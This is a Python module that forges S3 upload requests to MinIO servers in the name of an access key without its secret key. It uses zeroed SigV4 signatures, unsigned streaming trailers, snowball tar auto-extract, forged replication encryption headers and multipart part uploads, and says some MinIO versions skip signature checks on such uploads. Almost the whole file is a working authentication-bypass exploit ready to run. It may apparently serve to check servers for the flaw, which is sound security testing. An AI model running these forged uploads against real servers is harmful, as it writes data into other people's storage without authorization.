"""Upload requests with a forged signature: the sender has no secret key."""

import base64
import http.client
import io
import struct
import tarfile
import zlib
from collections.abc import Mapping
from datetime import UTC, datetime
from typing import NamedTuple
from urllib.parse import quote, urlsplit

from minio.credentials.credentials import Credentials
from minio.signer import sign_v4_s3

UNSIGNED_TRAILER = "STREAMING-UNSIGNED-PAYLOAD-TRAILER"
FORGED_CSV = b"first_name,last_name,birthts\nForged,Without Secret,946674000000\n"


class HttpReply(NamedTuple):
    """A server's response.  Header names are in lower case."""

    status: int
    headers: Mapping[str, str]
    body: bytes


def send_unsigned(
    endpoint: str,
    method: str,
    target: str,
    body: bytes = b"",
    headers: Mapping[str, str] | None = None,
) -> HttpReply:
    """Send one request unchanged, without signing it."""
    connection = http.client.HTTPConnection(urlsplit(endpoint).netloc, timeout=10)
    try:
        connection.request(method, target, body, dict(headers or {}))
        response = connection.getresponse()
        content = response.read()
        return HttpReply(
            response.status, {name.lower(): value for name, value in response.getheaders()}, content
        )
    finally:
        connection.close()


class UploadForger:
    """Forges uploads in the name of an access key, without its secret key."""

    def __init__(self, endpoint: str, access_key: str) -> None:
        self._endpoint = endpoint
        self._date = datetime.now(UTC).strftime("%Y%m%dT%H%M%SZ")
        self._credential = f"{access_key}/{self._date[:8]}/us-east-1/s3/aws4_request"

    def send_all(self, bucket: str, key: str, body: bytes = FORGED_CSV) -> dict[str, HttpReply]:
        """Send every kind of forged upload.  Return the replies by kind."""
        target = f"/{bucket}/{key}"
        snowball = {
            "Authorization": self._authorization,
            "X-Amz-Meta-Snowball-Auto-Extract": "true",
        }
        sealed_key = base64.b64encode(bytes(64)).decode()
        encrypted = {
            "X-Minio-Replication-Server-Side-Encryption-Sealed-Key": sealed_key,
            "X-Minio-Replication-Server-Side-Encryption-Seal-Algorithm": "DAREv2-HMAC-SHA256",
            "X-Minio-Replication-Server-Side-Encryption-Iv": base64.b64encode(bytes(32)).decode(),
        }
        tar = _make_tar(key, body)
        return {
            "access key in the query": self._upload(target + self._query, body),
            "access key in the query, snowball": self._upload(
                target + self._query, tar, {"X-Amz-Meta-Snowball-Auto-Extract": "true"}
            ),
            "access key in the query, replication headers": self._upload(
                target + self._query, body, encrypted
            ),
            "forged Authorization": self._upload(
                target, body, {"Authorization": self._authorization}
            ),
            "forged Authorization, snowball": self._upload(target, tar, snowball),
            "forged Authorization, snowball not chunked": self._upload(
                target, tar, snowball, chunked=False
            ),
            "no access key": self._upload(target, body),
            "part of a multipart upload": self._upload(
                f"{target}{self._query}&partNumber=1&uploadId=x", body
            ),
        }

    @property
    def _query(self) -> str:
        return (
            f"?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential={quote(self._credential, safe='')}"
            f"&X-Amz-Date={self._date}&X-Amz-Expires=600"
            f"&X-Amz-SignedHeaders=host&X-Amz-Signature={'0' * 64}"
        )

    @property
    def _authorization(self) -> str:
        signed = "host;x-amz-content-sha256;x-amz-date"
        return (
            f"AWS4-HMAC-SHA256 Credential={self._credential}, "
            f"SignedHeaders={signed}, Signature={'0' * 64}"
        )

    def _upload(
        self,
        target: str,
        body: bytes,
        headers: Mapping[str, str] | None = None,
        *,
        chunked: bool = True,
    ) -> HttpReply:
        request_body = _encode_chunk(body) if chunked else body
        signed_headers = {
            "x-amz-content-sha256": UNSIGNED_TRAILER,
            "x-amz-decoded-content-length": str(len(body)),
            "x-amz-trailer": "x-amz-checksum-crc32",
            "x-amz-date": self._date,
        }
        return send_unsigned(
            self._endpoint, "PUT", target, request_body, {**signed_headers, **(headers or {})}
        )


def upload_with_unsigned_trailer(
    endpoint: str, access_key: str, secret_key: str, bucket: str, key: str
) -> HttpReply:
    """Send an upload with an unsigned trailer and a valid signature.

    Some versions of MinIO do not verify the signature of such uploads.
    """
    now = datetime.now(UTC)
    target = f"/{bucket}/{key}"
    headers: dict[str, str | list[str] | tuple[str]] = {
        "Host": urlsplit(endpoint).netloc,
        "x-amz-content-sha256": UNSIGNED_TRAILER,
        "x-amz-decoded-content-length": str(len(FORGED_CSV)),
        "x-amz-trailer": "x-amz-checksum-crc32",
        "x-amz-date": now.strftime("%Y%m%dT%H%M%SZ"),
    }
    signed_headers = sign_v4_s3(
        method="PUT",
        url=urlsplit(endpoint + target),
        region="us-east-1",
        headers=headers,
        credentials=Credentials(access_key, secret_key),
        content_sha256=UNSIGNED_TRAILER,
        date=now,
    )
    return send_unsigned(
        endpoint,
        "PUT",
        target,
        _encode_chunk(FORGED_CSV),
        {name: str(value) for name, value in signed_headers.items()},
    )


def _encode_chunk(body: bytes) -> bytes:
    """Return the body as one aws-chunked chunk, followed by its checksum."""
    checksum = base64.b64encode(struct.pack(">I", zlib.crc32(body))).decode()
    return b"%x\r\n%s\r\n0\r\nx-amz-checksum-crc32:%s\r\n\r\n" % (
        len(body),
        body,
        checksum.encode(),
    )


def _make_tar(name: str, body: bytes) -> bytes:
    with io.BytesIO() as file:
        with tarfile.open(fileobj=file, mode="w") as tar:
            member = tarfile.TarInfo(name)
            member.size = len(body)
            tar.addfile(member, io.BytesIO(body))
        return file.getvalue()
